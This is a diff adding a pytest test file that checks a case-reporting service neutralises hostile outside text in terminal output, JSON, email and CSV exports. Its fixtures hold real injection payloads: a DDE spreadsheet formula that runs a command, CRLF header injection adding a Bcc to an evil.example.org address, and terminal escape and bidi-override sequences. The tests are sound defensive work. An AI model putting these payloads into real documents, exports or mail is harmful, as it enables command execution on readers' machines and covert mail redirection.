@@ -1,0 +1,92 @@
+"""Text from outside that would hurt whoever reads it: shown, sent and exported, it only reads."""
+
+import csv
+import json
+import unicodedata
+from email.message import EmailMessage
+from typing import Any
+
+import pytest
+
+from tests.e2e.house import House, a_report, until
+
+pytestmark = pytest.mark.server
+
+RED, TITLE, OVERRIDE = "\x1b[31m", "\x1b]0;owned\x07", "\u202e"
+FORMULA = "=cmd|'/C calc'!A0"
+INJECTED = "Saltbeck\r\nBcc: everybody@evil.example.org"
+SUMMARY = f"{FORMULA}\n{RED}All is well{OVERRIDE}gnihton si ereht{TITLE}\x08\x08\nBcc: me"
+SAFE_CONTROLS = {"\n"}
+
+
+@pytest.fixture(scope="module")
+def case(house: House) -> str:
+    """Return a case whose report and note were written by somebody who means harm."""
+    council = {"name": f"{INJECTED}{RED}{OVERRIDE} Council"}
+    reporter = {**a_report()["reporter"], "name": f"{FORMULA}\r\nBcc: x@evil.example.org{RED}"}
+    incident = {**a_report()["incident"], "summary": SUMMARY}
+    told = house.ask(
+        "case", "open", "-", body=a_report(council=council, reporter=reporter, incident=incident)
+    )
+    reference = str(told["case"])
+    note = {"text": f"{FORMULA}{RED}{OVERRIDE}\nBcc: everybody@evil.example.org"}
+    house.ask("case", "instruct", reference, "add-note", "--input", "-", body=note)
+    house.ask("triage", "acknowledge", reference)
+    house.quiet(reference)
+    return reference
+
+
+def controls(text: str) -> set[str]:
+    """Return what a terminal would act on rather than show."""
+    found = {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs")}
+    return found - SAFE_CONTROLS
+
+
+@pytest.mark.parametrize("verb", [("case", "show"), ("case", "history")])
+def test_a_terminal_only_shows_it(house: House, case: str, verb: tuple[str, str]) -> None:
+    answer = house.cir(*verb, case, "-o", "table", "--no-colour", by="kaya")
+    assert answer.code == 0
+    assert case in answer.out or "case-opened" in answer.out
+    assert controls(answer.out + answer.err) == set()
+
+
+def test_json_escapes_it(house: House, case: str) -> None:
+    answer = house.cir("case", "history", case, "-o", "json", by="kaya")
+    assert answer.out.isascii()
+    assert controls(answer.out) == set()
+    assert "All is well" in json.dumps(answer.data)
+
+
+def test_a_mail_has_no_header_of_theirs(house: House, case: str) -> None:
+    mails = until(lambda: house.mails(case), "a mail about the case")
+    to_reporter = [mail for mail in mails if "personal.example.org" in str(mail["To"])]
+    assert to_reporter, "the receipt went to the reporter"
+    for mail in mails:
+        assert mail["Bcc"] is None
+        assert mail["Cc"] is None
+        assert not [one for one in recipients(mail) if "evil" in one]
+        for name, value in mail.items():
+            assert controls(str(value)) == set(), name
+            assert "\n" not in str(value), name
+        assert controls(str(mail.get_content())) == set()
+
+
+def recipients(mail: EmailMessage) -> list[str]:
+    """Return the addresses a mail program would send to."""
+    return [address.addr_spec for address in mail["To"].addresses]
+
+
+def test_a_spreadsheet_calculates_nothing(house: House, case: str) -> None:
+    """The pack's items carry what a provider wrote; none of it starts a formula."""
+    for row in handed_off(house, case):
+        for name, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{name}: {value!r}"
+            assert controls(value) == set()
+    assert any("cmd" in value for row in handed_off(house, case) for value in row.values())
+
+
+def handed_off(house: House, case: str) -> list[dict[str, str]]:
+    """Return the items of the newest pack of a case."""
+    (pack,) = (house.outbox / "finance" / case).glob("pack-*/items.csv")
+    with pack.open(newline="") as file:
+        return [dict[str, Any](row) for row in csv.DictReader(file)]
